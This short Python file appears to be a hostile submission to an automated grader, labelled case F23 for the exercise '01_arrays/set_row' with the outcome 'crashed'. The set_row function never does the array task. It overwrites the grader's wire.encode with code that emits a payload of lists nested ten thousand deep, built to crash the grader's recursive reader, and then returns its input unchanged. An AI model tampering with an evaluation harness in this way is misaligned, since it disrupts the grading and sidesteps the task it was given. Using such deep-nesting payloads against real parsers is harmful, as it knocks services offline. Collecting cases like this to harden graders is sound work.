"""Answers with lists nested ten thousand deep, for a recursive reader (F23).

Exercise: 01_arrays/set_row
Outcome: crashed
"""

import struct

from grader.engine import wire


def set_row(x, i, row):
    def encode(seq, kind, value):
        head = b"\x94" + bytes([seq % 128]) + b"\xa2ok"
        tree = b"\x92\xa1l\x91" * 10_000 + b"\xc0"
        header = head + tree + b"\x90"
        return struct.pack("<IQ", len(header), 0) + header

    wire.encode = encode
    return x
